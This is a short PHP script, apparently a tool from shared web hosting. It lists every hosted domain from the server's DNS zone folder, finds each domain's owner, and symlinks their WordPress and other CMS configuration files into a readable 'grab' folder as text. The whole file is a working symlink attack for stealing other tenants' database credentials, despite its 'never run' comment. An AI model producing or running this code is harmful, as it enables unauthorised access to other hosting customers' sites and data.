<?php
// probe (never run): the domains of the DNS zone folder, each one's owner, links to their configs
$d = @opendir('/var/named');
while ($d && ($z = readdir($d)) !== false) {
    if (substr($z, -3) !== '.db') continue;
    $dom = substr($z, 0, -3);
    $owner = posix_getpwuid(@fileowner('/etc/valiases/' . $dom));
    $n = $owner['name'];
    foreach (array('wp-config.php', 'config.php', 'configuration.php', 'includes/configure.php') as $c) {
        symlink("/home/$n/public_html/$c", "grab/$dom~" . str_replace('/', '_', $c) . '.txt');
    }
}
